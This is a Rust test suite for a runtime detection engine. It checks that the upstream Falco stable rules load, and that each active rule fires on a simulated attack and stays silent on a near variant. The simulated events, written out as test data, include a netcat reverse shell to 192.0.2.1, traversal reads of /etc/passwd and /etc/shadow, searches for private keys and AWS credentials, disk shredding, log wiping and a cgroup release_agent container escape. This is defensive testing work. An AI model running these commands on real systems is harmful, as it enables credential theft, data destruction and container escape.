//! The upstream stable rules, unmodified: they load, each says whether it works and why not, and
//! those that work speak when they should and are silent about a near variant.

mod world;

use outis_detect::{Missing, Options, RuleSet, RuleState, Source, pack, rules};
use outis_model::event::Open;
use world::{RDONLY, SECOND, TRUNC, WRONLY, World, privileged_pod, titles, upstream};

/// Rules, macros and lists of the file.
const EXPECTED: (usize, usize, usize) = (25, 87, 49);
/// Rules that work when addresses of host names are told to us; without, one less.
const ACTIVE: usize = 18;
/// Rules that do not, each with an event type it waits for.
const WAITING: [(&str, &str); 7] = [
    ("Create Symlink Over Sensitive Files", "symlink"),
    ("Create Hardlink Over Sensitive Files", "link"),
    ("Packet socket created in container", "socket"),
    ("Redirect STDOUT/STDIN to Network Connection in Container", "dup"),
    ("Linux Kernel Module Injection Detected", "finit_module"),
    ("PTRACE attached to process", "ptrace"),
    ("PTRACE anti-debug attempt", "ptrace"),
];

fn stable() -> Option<Source> {
    upstream().inspect_err(|error| eprintln!("SKIPPED falco-rules: {error}; set OUTIS_CONFORMANCE")).ok()
}

fn compiled(sources: &[Source], hosts: bool) -> RuleSet {
    let options = Options { hosts, ..Options::default() };
    RuleSet::compile(sources, &options).unwrap_or_else(|faults| panic!("{faults}"))
}

#[test]
fn the_stable_rules_load_without_a_fault() {
    let Some(source) = stable() else { return };
    let items =
        |kind: &str| source.text.lines().filter(|line| line.starts_with(&format!("- {kind}: "))).count();
    assert_eq!((items("rule"), items("macro"), items("list")), EXPECTED, "the file is another one");
    let set = compiled(&[source], true);
    let mut active = 0;
    for rule in rules(&set) {
        println!("{}: {}", rule.name, rule.state);
        active += usize::from(rule.state == RuleState::Active);
    }
    println!("falco-rules: {}/{} loaded, {active} active", rules(&set).len(), EXPECTED.0);
    assert_eq!((rules(&set).len(), active), (EXPECTED.0, ACTIVE));
}

#[test]
fn what_cannot_work_yet_says_what_it_waits_for() {
    let Some(source) = stable() else { return };
    let set = compiled(std::slice::from_ref(&source), true);
    let of = |name: &str| rules(&set).into_iter().find(|rule| rule.name.as_str() == name).expect(name);
    for (name, event) in WAITING {
        let RuleState::NotActive { missing } = of(name).state else { panic!("{name} is active") };
        assert!(missing.contains(&Missing::Event(event.into())), "{name}: {missing:?}");
    }
    let ssh = of("Disallowed SSH Connection Non Standard Port");
    let partial: Vec<_> = ssh.partial.iter().map(ToString::to_string).collect();
    let other_half =
        ["field fd.connected", "field fd.name_changed", "event type sendmsg", "event type sendto"];
    assert_eq!((ssh.state, &partial[..]), (RuleState::Active, &other_half.map(str::to_owned)[..]));
    let without = compiled(&[source], false);
    let waits =
        rules(&without).into_iter().find(|rule| rule.name.as_str() == API_SERVER).expect("it is there");
    assert_eq!(waits.state, RuleState::NotActive { missing: vec![Missing::Field("fd.sip.name".into())] });
}

#[test]
fn ours_and_theirs_load_together() {
    let Some(source) = stable() else { return };
    let named = |source: &Source| -> Vec<String> {
        let name =
            |line: &str| line.strip_prefix("- macro: ").or(line.strip_prefix("- list: ")).map(str::to_owned);
        source.text.lines().filter_map(name).collect()
    };
    let theirs = named(&source);
    let both: Vec<_> = named(&pack()).into_iter().filter(|name| theirs.contains(name)).collect();
    assert!(both.is_empty(), "a word of theirs would change what our rules mean: {both:?}");
    let ours = rules(&compiled(&[pack()], true)).len();
    let shared = 3;
    let set = compiled(&[pack(), source], true);
    assert_eq!(rules(&set).len(), ours + EXPECTED.0 - shared, "a later rule of the same name replaces");
}

const API_SERVER: &str = "Contact K8S API Server From Container";

/// What happens, and the titles of the rules that speak of the last of it.
type Story = fn(&mut World) -> Vec<String>;

/// Rule, what it speaks of, a near variant it is silent about.
const STORIES: &[(&str, Story, Story)] = &[
    (
        "Directory traversal monitored file read",
        |world| reads(world, "../../../etc/passwd", "/etc/passwd", -2),
        |world| reads(world, "/etc/passwd", "/etc/passwd", 3),
    ),
    (
        "Read sensitive file trusted after startup",
        |world| {
            let server = world.run("nginx").go();
            world.wait(6 * SECOND);
            server.open(world, "/etc/shadow", RDONLY)
        },
        |world| world.run("nginx").go().open(world, "/etc/shadow", RDONLY),
    ),
    (
        "Read sensitive file untrusted",
        |world| world.run("cat").in_pod().go().open(world, "/etc/sudoers.d/x", RDONLY),
        |world| world.run("passwd").in_pod().go().open(world, "/etc/shadow", RDONLY),
    ),
    (
        "Run shell untrusted",
        |world| world.run("sh").args(&["-c", "id"]).below(&["worker", "nginx"]).rules(),
        |world| world.run("sh").args(&["-c", "whoami"]).below(&["worker", "nginx"]).rules(),
    ),
    (
        "System user interactive",
        |world| world.run("id").user(33).below(&["bash", "sshd"]).rules(),
        |world| world.run("id").user(33).below(&["cron"]).rules(),
    ),
    (
        "Terminal shell in container",
        |world| world.run("sh").in_pod().tty().below(&["runc"]).rules(),
        |world| world.run("ls").in_pod().below(&["runc"]).rules(),
    ),
    (
        API_SERVER,
        |world| world.run("curl").in_pod().go().connect(world, "10.96.0.1:443", -115),
        |world| world.run("curl").in_pod().go().connect(world, "10.96.0.2:443", -115),
    ),
    (
        "Netcat Remote Code Execution in Container",
        |world| world.run("nc").in_pod().args(&["-e", "/bin/sh", "192.0.2.1"]).rules(),
        |world| world.run("nc").in_pod().args(&["-lp", "80"]).rules(),
    ),
    (
        "Search Private Keys or Passwords",
        |world| world.run("grep").args(&["-r", "begin rsa private", "/"]).rules(),
        |world| world.run("grep").args(&["-r", "private", "/"]).rules(),
    ),
    (
        "Clear Log Activities",
        |world| world.run("bash").go().open(world, "/var/log/auth.log", WRONLY | TRUNC),
        |world| world.run("bash").go().open(world, "/var/log/auth.log", WRONLY),
    ),
    (
        "Remove Bulk Data from Disk",
        |world| world.run("shred").args(&["/dev/sda"]).rules(),
        |world| world.run("rm").args(&["/dev/sda"]).rules(),
    ),
    (
        "Debugfs Launched in Privileged Container",
        |world| world.run("debugfs").at(privileged_pod()).rules(),
        |world| world.run("debugfs").in_pod().rules(),
    ),
    (
        "Detect release_agent File Container Escapes",
        |world| releases(world, 1 << 21),
        |world| releases(world, 1 << 12),
    ),
    (
        "Find AWS Credentials",
        |world| world.run("find").args(&["/", "-path", "*.aws/credentials"]).rules(),
        |world| world.run("find").args(&["/", "-path", "*.aws/config"]).rules(),
    ),
    (
        "Execution from /dev/shm",
        |world| world.run("/dev/shm/x").exe("./x").cwd("/dev/shm").rules(),
        |world| world.run("/tmp/x").exe("./x").cwd("/dev/shmem").rules(),
    ),
    (
        "Drop and execute new binary in container",
        |world| world.run("/tmp/x").in_pod().with(|_, exec| exec.upper_layer = true).rules(),
        |world| world.run("/tmp/x").with(|_, exec| exec.upper_layer = true).rules(),
    ),
    (
        "Disallowed SSH Connection Non Standard Port",
        |world| world.run("ssh").go().connect(world, "203.0.113.9:443", -115),
        |world| world.run("ssh").go().connect(world, "10.0.0.9:443", -115),
    ),
    (
        "Fileless execution via memfd_create",
        |world| world.run("x").with(|_, exec| exec.memfd = true).rules(),
        |world| world.run("x").below(&["runc"]).with(|_, exec| exec.memfd = true).rules(),
    ),
];

fn reads(world: &mut World, raw: &str, path: &str, result: i32) -> Vec<String> {
    let cat = world.run("cat").below(&["python3"]).go();
    titles(&cat.opens(world, Open { raw: raw.into(), path: path.into(), result, ..Open::default() }))
}

fn releases(world: &mut World, caps: u64) -> Vec<String> {
    let sh = world.run("sh").in_pod().with(|task, _| task.cap_effective = caps).go();
    sh.open(world, "/tmp/cgrp/release_agent", WRONLY)
}

#[test]
fn each_active_rule_speaks_and_is_silent_about_a_near_variant() {
    let Some(source) = stable() else { return };
    let set = compiled(std::slice::from_ref(&source), true);
    let active = rules(&set).into_iter().filter(|rule| rule.state == RuleState::Active);
    let active: Vec<_> = active.map(|rule| rule.name.to_string()).collect();
    let told: Vec<_> = STORIES.iter().map(|(name, ..)| (*name).to_owned()).collect();
    assert_eq!(told, active, "one story for each active rule, in their order");
    let source = std::slice::from_ref(&source);
    for (name, speaks, silent) in STORIES {
        let said = speaks(&mut World::new(source));
        assert!(said.iter().any(|title| title == name), "{name} should speak, but {said:?}");
        let said = silent(&mut World::new(source));
        assert!(said.iter().all(|title| title != name), "{name} should be silent, but {said:?}");
    }
}
